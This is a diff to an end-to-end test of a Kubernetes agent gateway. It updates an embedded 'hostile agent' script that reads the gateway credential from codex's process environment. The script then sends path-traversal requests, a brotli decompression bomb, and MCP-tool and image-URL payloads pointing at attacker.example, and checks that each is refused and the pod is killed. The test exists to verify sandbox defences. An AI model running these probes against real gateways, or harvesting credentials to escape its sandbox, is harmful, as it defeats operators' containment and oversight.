@@ -189,8 +189,18 @@ describe('e2e: the README on a real node, deploy/k8s as deployed', function () {
       const exec = await kubectl(['exec', running.status.podName!, '-c', 'agent', '--', 'node', '-e', AGENT_TRICKS], {
         allowFailure: true,
       });
-      expect(exec.code, `${exec.stdout}${exec.stderr}`).to.equal(0);
+      // the refusal ends the attempt and the manager kills the pod: the exec may be killed with
+      // it (137) before the last trick is answered; the script prints its answers so far after
+      // each trick, so what it saw up to then is kept either way
+      expect(exec.code, `${exec.stdout}${exec.stderr}`).to.be.oneOf([0, 137]);
       const answers = JSON.parse(exec.stdout.trim().split('\n').at(-1) ?? '{}') as Record<string, string>;
+      const last = 'POST /v1/responses (input_image by URL)';
+      if (exec.code === 137) {
+        // killed: only by the attempt's end, which the job's reason below proves; the last
+        // trick was refused on its own account or not yet answered
+        expect([undefined, '403 InputNotAllowed', '403 AttemptEnded'], exec.stdout).to.include(answers[last]);
+        answers[last] = '403 AttemptEnded';
+      }
       expect(answers, exec.stdout).to.deep.equal({
         credential: 'found in codex environment',
         'GET /v1/models/..\\files': '404 NotFound',
@@ -248,7 +258,8 @@ describe('e2e: the README on a real node, deploy/k8s as deployed', function () {
  * What a hostile agent runs inside its runner pod (node -e, in the agent container): finds the
  * gateway credential in codex's environment (the agent's uid may read its own processes), then
  * sends each trick to the gateway Service on a raw socket (no client library normalises the
- * paths), and prints one JSON object: each trick and the answer's status and error code.
+ * paths), and prints after each trick one JSON object: the tricks so far and each answer's status
+ * and error code (the last line is what it saw, even when the pod is killed under it).
  */
 const AGENT_TRICKS = String.raw`
 const fs = require('node:fs'), net = require('node:net'), zlib = require('node:zlib');
@@ -272,21 +283,23 @@ const send = (method, target, body, headers = {}) => new Promise((resolve) => {
   });
 });
 const body = (extra) => Buffer.from(JSON.stringify({ model: 'gpt-5.5', stream: true, input: [{ role: 'user', content: 'hi' }], ...extra }));
+const out = { credential: key ? 'found in codex environment' : 'not found' };
+// the answers so far, after each one: the pod may be killed before the last
+const answer = (k, v) => { out[k] = v; console.log(JSON.stringify(out)); };
 (async () => {
-  const out = { credential: key ? 'found in codex environment' : 'not found' };
+  console.log(JSON.stringify(out));
   for (const target of ['/v1/models/..\\files', '/v1/models/..\\responses\\resp_1', '/v1/models/%2e%2e/files', '/v1/files'])
-    out['GET ' + target] = await send('GET', target, Buffer.alloc(0));
-  out['POST /v1/responses?background=true'] = await send('POST', '/v1/responses?background=true', body({}));
-  out['POST /v1/responses (brotli)'] = await send('POST', '/v1/responses', zlib.brotliCompressSync(Buffer.alloc(64 << 20, 32)), { 'Content-Encoding': 'br' });
-  out['POST /v1/responses (mcp tool)'] = await send('POST', '/v1/responses', body({ tools: [{ type: 'mcp', server_label: 'x', server_url: 'https://attacker.example/mcp' }] }));
+    answer('GET ' + target, await send('GET', target, Buffer.alloc(0)));
+  answer('POST /v1/responses?background=true', await send('POST', '/v1/responses?background=true', body({})));
+  answer('POST /v1/responses (brotli)', await send('POST', '/v1/responses', zlib.brotliCompressSync(Buffer.alloc(64 << 20, 32)), { 'Content-Encoding': 'br' }));
+  answer('POST /v1/responses (mcp tool)', await send('POST', '/v1/responses', body({ tools: [{ type: 'mcp', server_label: 'x', server_url: 'https://attacker.example/mcp' }] })));
   // the refusal reaches the manager, which ends the attempt; until the gateway's watch sees that, the next trick is refused on its own account
   const image = body({ input: [{ role: 'user', content: [{ type: 'input_image', image_url: 'https://attacker.example/x.png' }] }] });
   for (let i = 0; i < 150; i++) {
-    out['POST /v1/responses (input_image by URL)'] = await send('POST', '/v1/responses', image);
+    answer('POST /v1/responses (input_image by URL)', await send('POST', '/v1/responses', image));
     if (out['POST /v1/responses (input_image by URL)'] !== '403 InputNotAllowed') break;
     await new Promise((r) => setTimeout(r, 100));
   }
-  console.log(JSON.stringify(out));
 })();
 `;
 
